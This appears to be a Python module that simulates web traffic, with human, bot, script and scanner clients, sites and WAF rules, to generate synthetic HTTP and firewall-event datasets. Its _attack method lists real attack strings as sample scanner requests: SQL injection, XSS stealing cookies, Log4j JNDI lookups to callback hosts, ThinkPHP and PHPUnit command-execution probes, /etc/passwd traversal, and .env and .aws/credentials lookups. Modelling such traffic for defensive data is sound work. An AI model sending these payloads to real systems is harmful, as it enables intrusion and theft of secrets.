"""The simulated internet behind the HTTP-level datasets: who connects, to which sites, asking what.

Clients have a *persona* that drives everything downstream:

- ``human``: browsers, mostly allowed, now and then challenged;
- ``bot``: verified crawlers and monitors, allowed;
- ``script``: curl, SDKs and scrapers, often challenged or blocked by bot defences;
- ``scanner``: vulnerability scanners and exploit attempts, mostly blocked by the WAF.

Requests have a *kind* (``page``, a static asset type such as ``js`` or ``png``, ``api``,
``write``, ``subrequest``, ``robots``, ``xml``, ``health``, or an attack such as ``sqli``) that
decides cacheability, content type and which security rules can match. http_requests and
firewall_events render the same objects into their own field names.
"""

from __future__ import annotations

import urllib.parse
from dataclasses import dataclass, field
from enum import StrEnum

from hecharness.generate.pools import COLOS, METROS, Agent, Colo, Metro, Network, Pools

__all__ = ["ATTACKS", "Client", "Persona", "Request", "Rule", "Site", "World"]

class Persona(StrEnum):
    """Who a client is (the module's docstring says what each means)."""

    HUMAN = "human"
    BOT = "bot"
    SCRIPT = "script"
    SCANNER = "scanner"


PERSONAS = tuple(Persona)

# Request kinds: what was asked for decides cacheability, content type and size.
STATIC_KINDS = ("js", "css", "png", "jpg", "webp", "svg", "woff2", "ico")
CONTENT_TYPES = {
    "js": "application/javascript", "css": "text/css", "png": "image/png", "jpg": "image/jpeg", "webp": "image/webp",
    "svg": "image/svg+xml", "woff2": "font/woff2", "ico": "image/x-icon", "page": "text/html", "robots": "text/plain",
    "xml": "application/xml", "api": "application/json", "write": "application/json", "subrequest": "application/json",
    "health": "application/json",
}

# Share of requests per persona on a typical zone.
HTTP_TRAFFIC = {Persona.HUMAN: 0.82, Persona.BOT: 0.07, Persona.SCRIPT: 0.07, Persona.SCANNER: 0.04}

# Attack kinds and the WAF sub-score each one drives down.
ATTACKS = {
    "sqli": "sqli", "xss": "xss", "log4j": "rce", "rce": "rce",
    "traversal": "rce", "wordpress": None, "secrets": None, "probe": None,
}

_RESOURCES = ["users", "orders", "products", "carts", "sessions", "invoices", "payments", "items", "reviews", "accounts",
              "events", "notifications", "messages", "files", "subscriptions", "customers", "inventory", "prices"]
_TLS13 = ("AEAD-AES128-GCM-SHA256", "AEAD-AES256-GCM-SHA384", "AEAD-CHACHA20-POLY1305-SHA256")
_TLS12 = ("ECDHE-ECDSA-AES128-GCM-SHA256", "ECDHE-RSA-AES128-GCM-SHA256", "ECDHE-RSA-AES256-GCM-SHA384", "ECDHE-ECDSA-CHACHA20-POLY1305")


@dataclass
class Client:
    persona: Persona
    ip: str
    network: Network
    metro: Metro
    colo: Colo
    agent: Agent
    ip_class: str
    scheme: str
    http_protocol: str
    tls_protocol: str
    tls_cipher: str
    ja3: str
    ja4: str
    ja4_signals: dict
    rtt_ms: int
    bot_score: int
    bot_source: str
    bot_tags: list
    bot_detection_ids: list
    bot_detection_tags: list
    js_detection: str
    mtls_status: str
    mtls_fingerprint: str
    edge_ips: tuple[str, ...]


@dataclass
class Request:
    kind: str
    host: str
    zone: str
    method: str
    path: str
    query: str
    referer: str
    request_bytes: int
    source: str
    requested_with: str
    cookies: dict
    headers: dict
    content_types: list = field(default_factory=list)
    content_sizes: list = field(default_factory=list)
    content_results: list = field(default_factory=list)
    leaked_credentials: str = "clean"
    fraud_user: str = ""
    fraud_email_risk: str = "low"
    fraud_attack: str = ""
    fraud_ids: list = field(default_factory=list)
    fraud_tags: list = field(default_factory=list)
    asset_labels: list = field(default_factory=list)
    asset_operation: str = ""

    @property
    def uri(self) -> str:
        return f"{self.path}?{self.query}" if self.query else self.path

    @property
    def referer_parts(self) -> tuple[str, str, str, str]:
        if not self.referer:
            return "", "", "", ""
        url = urllib.parse.urlsplit(self.referer)
        return url.scheme, url.netloc, url.path, f"?{url.query}" if url.query else ""


# The HTTP DDoS Attack Protection rule that mitigates a flood (Cloudflare's managed ruleset; the id is ours).
DDOS_RULE_ID = "4d21379b4f9f4bb088e0729962c8b3cf"


@dataclass(frozen=True)
class Rule:
    """A security rule that can match requests."""

    id: str
    description: str
    source: str  # as SecuritySources spells it (camelCase)
    attack: str | None = None
    ref: str = ""


@dataclass
class Site:
    zone: str
    hosts: dict[str, str]  # role -> host name
    origins: tuple[str, ...]
    worker: str
    resources: list[str]
    slugs: list[str]
    assets: list[str]


class World:
    """Clients, sites and rules built from one seed."""

    def __init__(self, pools: Pools, clients: int = 3000) -> None:
        self.pools = pools
        rng = pools.rng
        self.sites = [self._site(primary=i == 0) for i in range(3)]
        self.site_weights = [0.7, 0.2, 0.1]
        self.callback_hosts = [f"{pools.word()}.{pools.fake.tld()}" for _ in range(5)]
        self._fingerprints: dict[tuple[str, str], tuple[str, str, dict]] = {}
        share = {Persona.HUMAN: 0.80, Persona.BOT: 0.05, Persona.SCRIPT: 0.08, Persona.SCANNER: 0.07}
        self.clients = [self._client(persona) for persona in PERSONAS for _ in range(max(20, int(clients * share[persona])))]
        self.managed_rules = self._managed_rules()
        self.custom_rules = [
            Rule(pools.hex(32), text, "firewallCustom", ref=f"rule-{n}")
            for n, text in enumerate(("Block known bad ASNs", "Challenge admin paths from abroad", "Block empty user agents",
                                      "Block scanners by user agent", "Log writes to the API"), start=1)
        ]
        self.rate_rules = [Rule(pools.hex(32), text, "rateLimit", ref=f"rl-{n}")
                           for n, text in enumerate(("Login rate limit", "API rate limit"), start=1)]
        self.bot_rule = Rule(pools.hex(32), "Definitely automated traffic", "botManagement")
        self.bot_fight_rule = Rule(pools.hex(32), "Bot Fight Mode", "botFight")
        self.ip_rule = Rule(pools.hex(32), "", "ip")
        self.country_rule = Rule(pools.hex(32), "", "country")
        self.asn_rule = Rule(pools.hex(32), "", "asn")
        self.precursor_rule = Rule(pools.hex(32), "Precursor interstitial page", "precursor")
        # A fixed id, not one from the pools: drawing one would shift every seed's records.
        self.ddos_rule = Rule(DDOS_RULE_ID, "HTTP requests with unusual request rate", "l7ddos")
        self.upper_tiers = tuple(COLOS[code].id for code in ("IAD", "ORD", "FRA", "SIN", "NRT"))
        rng.shuffle(self.clients)

    # -- clients ------------------------------------------------------------------------------

    def client_weights(self, traffic: dict[str, float]) -> list[float]:
        """Per-client weights: a persona's share spread over its clients, a few very busy ones."""
        totals: dict[str, float] = {}
        raw = []
        for rank, client in enumerate(self.clients):
            weight = 1.0 / (1 + rank % 400) ** 0.9
            raw.append(weight)
            totals[client.persona] = totals.get(client.persona, 0.0) + weight
        return [traffic[c.persona] * w / totals[c.persona] for c, w in zip(self.clients, raw)]

    def _client(self, persona: Persona) -> Client:
        pools, rng = self.pools, self.pools.rng
        metro = pools.metro()
        network = pools.eyeball_network(metro.country)
        ip_class = "noRecord"
        if persona == Persona.HUMAN:
            agent = pools.browser()
            ip = pools.client_ip(0.3)
            ip_class = rng.choices(("noRecord", "unknown", "allowlist", "tor", "badHost"), (90, 6, 2, 1, 1))[0]
        elif persona == Persona.BOT:
            agent, network = pools.verified_bot()
            metro = rng.choice(self._metros_in(network.country))
            ip = pools.ipv4()
            ip_class = "monitoringService" if agent.bot_category == "Monitoring & Analytics" else "searchEngine"
        elif persona == Persona.SCRIPT:
            agent = pools.script()
            if rng.random() < 0.6:
                network = pools.hosting_network()
                metro = rng.choice(self._metros_in(network.country))
            ip = pools.client_ip(0.1)
            ip_class = rng.choices(("noRecord", "unknown", "badHost"), (80, 15, 5))[0]
        else:
            agent = pools.scanner(rng.choice(self.callback_hosts))
            network = pools.hosting_network()
            metro = rng.choice(self._metros_in(network.country))
            ip = pools.ipv4()
            ip_class = rng.choices(("scan", "badHost", "tor", "noRecord"), (50, 25, 10, 15))[0]
        colo = COLOS[metro.colo]
        scheme = "https" if persona != Persona.SCANNER or rng.random() < 0.7 else "http"
        if scheme == "http":
            tls_protocol, tls_cipher, ja3, ja4, signals = "none", "NONE", "", "", {}
        else:
            modern = agent.family in ("chrome", "firefox", "safari", "curl", "go", "google", "bing", "apple", "openai") or rng.random() < 0.6
            tls_protocol = "TLSv1.3" if modern and rng.random() < 0.95 else "TLSv1.2"
            tls_cipher = rng.choice(_TLS13 if tls_protocol == "TLSv1.3" else _TLS12)
            ja3, ja4, signals = self._fingerprint(agent.family, tls_protocol)
        if agent.family in ("chrome", "firefox", "safari"):
            http_protocol = rng.choices(("HTTP/2", "HTTP/3", "HTTP/1.1"), (70, 22, 8))[0]
        elif agent.family in ("go", "okhttp", "google", "bing"):
            http_protocol = "HTTP/2"
        else:
            http_protocol = "HTTP/1.1"
        if scheme == "http":
            http_protocol = "HTTP/1.1"
        score, source, tags, ids, detection_tags, js = self._bot_facts(persona, agent)
        mtls = rng.random() < 0.01 and persona == Persona.SCRIPT
        return Client(
            persona=persona, ip=ip, network=network, metro=metro, colo=colo, agent=agent, ip_class=ip_class,
            scheme=scheme, http_protocol=http_protocol, tls_protocol=tls_protocol, tls_cipher=tls_cipher,
            ja3=ja3, ja4=ja4, ja4_signals=signals, rtt_ms=self._rtt(metro, colo),
            bot_score=score, bot_source=source, bot_tags=tags, bot_detection_ids=ids, bot_detection_tags=detection_tags,
            js_detection=js, mtls_status="ok" if mtls else "unknown", mtls_fingerprint=pools.hex(64) if mtls else "",
            edge_ips=pools.edge_ips(colo.code),
        )

    def _metros_in(self, country: str) -> list[Metro]:
        return [m for m in METROS if m.country == country] or [m for m in METROS if m.country == "us"]

    def _rtt(self, metro: Metro, colo: Colo) -> int:
        distance = abs(metro.latitude - colo.latitude) + abs(metro.longitude - colo.longitude)
        return max(1, int(2 + distance * 0.8 + self.pools.rng.expovariate(1 / 12)))

    def _fingerprint(self, family: str, tls: str) -> tuple[str, str, dict]:
        # One JA3/JA4 per (family, TLS version), as real fingerprints identify the TLS stack.
        cache = self._fingerprints
        key = (family, tls)
        if key not in cache:
            pools, rng = self.pools, self.pools.rng
            version = "13" if tls == "TLSv1.3" else "12"
            alpn = "h2" if family in ("chrome", "firefox", "safari", "go", "okhttp") else "h1"
            ja4 = f"t{version}d{rng.randint(10, 20):02d}{rng.randint(8, 18):02d}{alpn}_{pools.hex(12)}_{pools.hex(12)}"
            browser = family in ("chrome", "firefox", "safari", "legacy")
            signals = {
                "h2h3_ratio_1h": round(rng.uniform(0.5, 1.0) if browser else rng.uniform(0, 0.3), 6),
                "heuristic_ratio_1h": round(rng.uniform(0, 0.01) if browser else rng.uniform(0.2, 0.9), 6),
                "reqs_quantile_1h": round(rng.uniform(0.9, 1.0) if browser else rng.uniform(0.2, 0.9), 6),
                "uas_rank_1h": rng.randint(1, 1000),
                "browser_ratio_1h": round(rng.uniform(0.8, 1.0) if browser else rng.uniform(0, 0.2), 6),
                "paths_rank_1h": rng.randint(1, 1000),
                "reqs_rank_1h": rng.randint(1, 1000),
                "cache_ratio_1h": round(rng.uniform(0.1, 0.6), 6),
                "ips_rank_1h": rng.randint(1, 1000),
                "ips_quantile_1h": round(rng.uniform(0.5, 1.0), 6),
            }
            cache[key] = (pools.hex(32), ja4, signals)
        return cache[key]

    def _bot_facts(self, persona: Persona, agent: Agent) -> tuple[int, str, list, list, list, str]:
        rng = self.pools.rng
        if persona == Persona.HUMAN:
            return (rng.randint(30, 99), rng.choices(("Machine Learning", "Behavioral Analysis", "JS Fingerprinting"), (80, 15, 5))[0],
                    [], [], [], rng.choices(("passed", "missing"), (75, 25))[0])
        if persona == Persona.BOT:
            return 1, "Verified Bot", [agent.bot_tag], [], [], "missing"
        if persona == Persona.SCRIPT:
            ids = [rng.choice((201326592, 50331651, 33554436))] if rng.random() < 0.4 else []
            return (rng.randint(1, 29), rng.choices(("Heuristics", "Machine Learning"), (40, 60))[0], [],
                    ids, ["automated_client"] if ids else [], rng.choice(("missing", "failed")))
        ids = [rng.choice((201326592, 50331651))]
        return rng.randint(1, 5), "Heuristics", [], ids, ["scanner"], "missing"

    # -- sites and requests -------------------------------------------------------------------

    def _site(self, primary: bool) -> Site:
        pools, rng = self.pools, self.pools.rng
        zone = f"{pools.fake.domain_word()}-{pools.word()}.{rng.choice(('com', 'com', 'net', 'io', 'org', 'shop'))}"
        hosts = {"www": f"www.{zone}", "apex": zone, "api": f"api.{zone}", "static": f"static.{zone}", "app": f"app.{zone}"}
        return Site(
            zone=zone, hosts=hosts, origins=tuple(pools.ipv4() for _ in range(3)),
            worker=f"{pools.word()}-{pools.word()}-worker" if primary or rng.random() < 0.5 else "",
            resources=rng.sample(_RESOURCES, 8),
            slugs=[pools.slug(rng.randint(1, 4)) for _ in range(60)],
            assets=[pools.word() for _ in range(40)],
        )

    def site(self) -> Site:
        return self.pools.rng.choices(self.sites, self.site_weights)[0]

    def request(self, persona: Persona) -> Request:
        rng = self.pools.rng
        if persona == Persona.HUMAN:
            kind = rng.choices(("static", "page", "api", "write", "subrequest"), (44, 30, 17, 7, 2))[0]
        elif persona == Persona.BOT:
            kind = rng.choices(("crawl", "page", "static", "health"), (25, 45, 15, 15))[0]
        elif persona == Persona.SCRIPT:
            kind = rng.choices(("api", "write", "page"), (65, 20, 15))[0]
        else:
            kind = rng.choices(list(ATTACKS), (14, 10, 10, 8, 10, 18, 14, 16))[0]
        return self._request(kind, persona)

    def _request(self, kind: str, persona: Persona) -> Request:
        pools, rng = self.pools, self.pools.rng
        site = self.site()
        host, method, query, referer = site.hosts["www"], "GET", "", ""
        source, requested_with = "eyeball", ""
        cookies: dict = {}
        headers: dict = {}
        size = rng.randint(350, 1400)
        request = None
        if kind == "static":
            host = rng.choice((site.hosts["static"], site.hosts["www"]))
            asset = rng.choice(site.assets)
            kind = rng.choices(STATIC_KINDS, (30, 15, 15, 12, 12, 6, 5, 5))[0]
            path = {
                "js": f"/static/js/{asset}.{pools.hex(8)}.js", "css": f"/static/css/{asset}.{pools.hex(8)}.css",
                "woff2": f"/fonts/{asset}.woff2", "ico": "/favicon.ico",
            }.get(kind, f"/assets/img/{asset}.{kind}")
            referer = f"https://{site.hosts['www']}/"
        elif kind in ("page", "crawl"):
            path = rng.choice(("/", f"/products/{rng.choice(site.slugs)}", f"/blog/{rng.choice(site.slugs)}", f"/{rng.choice(site.slugs)}",
                               "/about", "/contact", "/cart", "/search", f"/category/{rng.choice(site.resources)}"))
            if kind == "crawl" and rng.random() < 0.4:
                path = rng.choice(("/robots.txt", "/sitemap.xml", "/feed.xml"))
            kind = "robots" if path == "/robots.txt" else "xml" if path.endswith(".xml") else "page"
            if path == "/search":
                query = f"q={urllib.parse.quote_plus(' '.join(pools.word() for _ in range(rng.randint(1, 3))))}"
            elif rng.random() < 0.15:
                query = rng.choice(("utm_source=google&utm_medium=cpc", "utm_source=newsletter", "ref=home", f"page={rng.randint(2, 9)}"))
            referer = rng.choice(("", "https://www.google.com/", f"https://{site.hosts['www']}/", "https://www.bing.com/", "https://t.co/"))
            if persona == Persona.HUMAN and rng.random() < 0.5:
                cookies = {"session": pools.hex(24)}
        elif kind in ("api", "write", "subrequest"):
            host = site.hosts["api"] if rng.random() < 0.8 else site.hosts["app"]
            resource = rng.choice(site.resources)
            path = rng.choice((f"/api/v1/{resource}", f"/api/v1/{resource}/{rng.randint(1, 99999)}", f"/api/v2/{resource}", "/graphql"))
            if kind == "write":
                method = rng.choices(("POST", "PUT", "PATCH", "DELETE"), (70, 12, 10, 8))[0]
                if rng.random() < 0.25:
                    path, method = rng.choice(("/login", "/signup", "/checkout")), "POST"
                size = rng.randint(600, 12000)
            elif rng.random() < 0.4:
                query = f"page={rng.randint(1, 50)}&limit={rng.choice((10, 20, 50, 100))}"
            if persona == Persona.HUMAN:
                requested_with = "XMLHttpRequest" if rng.random() < 0.3 else ""
                referer = f"https://{site.hosts['app']}/"
            if kind == "subrequest":
                source = "edgeWorkerFetch"
            headers = {"content-type": "application/json"} if method != "GET" else {}
        elif kind == "health":
            path = rng.choice(("/health", "/healthz", "/status"))
            host = rng.choice((site.hosts["api"], site.hosts["www"]))
        else:
            path, query, method = self._attack(kind, site)
            if kind in ("wordpress", "secrets", "probe"):
                host = rng.choice((site.hosts["www"], site.hosts["apex"]))
        if persona == Persona.HUMAN and kind in ("page", "static") and rng.random() < 0.2:
            headers = {"accept-language": "en-US,en;q=0.9"}
        request = Request(kind=kind, host=host, zone=site.zone, method=method, path=path, query=query, referer=referer,
                          request_bytes=size, source=source, requested_with=requested_with, cookies=cookies, headers=headers)
        if kind == "write":
            self._write_details(request)
        return request

    def _write_details(self, request: Request) -> None:
        pools, rng = self.pools, self.pools.rng
        if request.path in ("/login", "/signup"):
            request.leaked_credentials = rng.choices(
                ("clean", "password_leaked", "username_and_password_leaked", "username_password_similar", "username_leaked"), (85, 6, 3, 3, 3))[0]
            request.fraud_user = pools.uuid()
            request.fraud_email_risk = rng.choices(("low", "medium", "high"), (80, 15, 5))[0]
            request.asset_labels = ["cf-log-in"] if request.path == "/login" else ["cf-sign-up"]
            if request.fraud_email_risk == "high":
                request.fraud_attack = "account_takeover" if request.path == "/login" else "fake_account"
                request.fraud_ids = [rng.randint(1000, 1100)]
                request.fraud_tags = ["disposable_email"]
        if rng.random() < 0.06:
            count = rng.randint(1, 2)
            request.content_types = [rng.choice(("pdf", "zip", "docx", "png")) for _ in range(count)]
            request.content_sizes = [rng.randint(2_000, 4_000_000) for _ in range(count)]
            request.content_results = [rng.choices(("clean", "suspicious", "infected", "unscannable"), (90, 5, 2, 3))[0] for _ in range(count)]
        if rng.random() < 0.5:
            request.asset_operation = pools.uuid()

    def _attack(self, kind: str, site: Site) -> tuple[str, str, str]:
        rng = self.pools.rng
        callback = rng.choice(self.callback_hosts)
        resource = rng.choice(site.resources)
        if kind == "sqli":
            payload = rng.choice(("1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "1; WAITFOR DELAY '0:0:5'--", "1' AND SLEEP(5)#"))
            return f"/api/v1/{resource}", f"id={urllib.parse.quote(payload)}", "GET"
        if kind == "xss":
            payload = rng.choice(("<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>", "javascript:alert(1)"))
            return "/search", f"q={urllib.parse.quote(payload)}", "GET"
        if kind == "log4j":
            payload = rng.choice((f"${{jndi:ldap://{callback}/a}}", f"${{jndi:dns://{callback}/x}}", f"${{${{lower:j}}ndi:ldap://{callback}/b}}"))
            return rng.choice(("/", "/login", f"/api/v1/{resource}")), f"x={payload}", "GET"
        if kind == "rce":
            return rng.choice((("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "POST"),
                               ("/cgi-bin/luci/;stok=/locale", "form=country&operation=write&country=$(id)", "GET"),
                               ("/index.php", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", "GET"),
                               ("/boaform/admin/formLogin", "", "POST")))
        if kind == "traversal":
            return rng.choice(("/index.php", "/download", "/static/")), f"file={urllib.parse.quote('../../../../etc/passwd')}", "GET"
        if kind == "wordpress":
            return rng.choice(("/wp-login.php", "/wp-admin/", "/xmlrpc.php", "/wp-content/plugins/revslider/temp/update_extract/")), "", rng.choice(("GET", "POST"))
        if kind == "secrets":
            return rng.choice(("/.env", "/.git/config", "/.aws/credentials", "/config.json", "/.DS_Store", "/server-status", "/actuator/env")), "", "GET"
        return rng.choice(("/admin", "/phpmyadmin/", "/manager/html", "/api/swagger.json", "/owa/auth/logon.aspx", "/remote/login", "/HNAP1/")), "", "GET"

    # -- rules ----------------------------------------------------------------------------

    def _managed_rules(self) -> dict[str, list[Rule]]:
        hex32 = self.pools.hex
        table = {
            "sqli": ("SQLi - Comment", "SQLi - Sleep Function", "SQLi - Tautology - URI"),
            "xss": ("XSS - HTML Injection", "XSS - JavaScript Events", "XSS - JS Context Escape"),
            "log4j": ("Log4j Headers", "Log4j URI", "Log4j Body"),
            "rce": ("Command Injection - Common Attack Commands", "PHPUnit - Remote Code Execution - CVE:CVE-2017-9841",
                    "ThinkPHP - Remote Code Execution - CVE:CVE-2018-20062"),
            "traversal": ("Directory Traversal - /etc/passwd", "File Inclusion - Common Files"),
            "wordpress": ("WordPress - Broken Access Control", "WordPress - Dangerous File Upload"),
            "secrets": ("Information Disclosure - Common Files", "Version Control - Information Disclosure"),
            "probe": ("Vulnerability scanner activity", "Anomaly:Header:User-Agent - Fake Browser"),
        }
        return {attack: [Rule(hex32(32), text, "firewallManaged", attack) for text in texts] for attack, texts in table.items()}
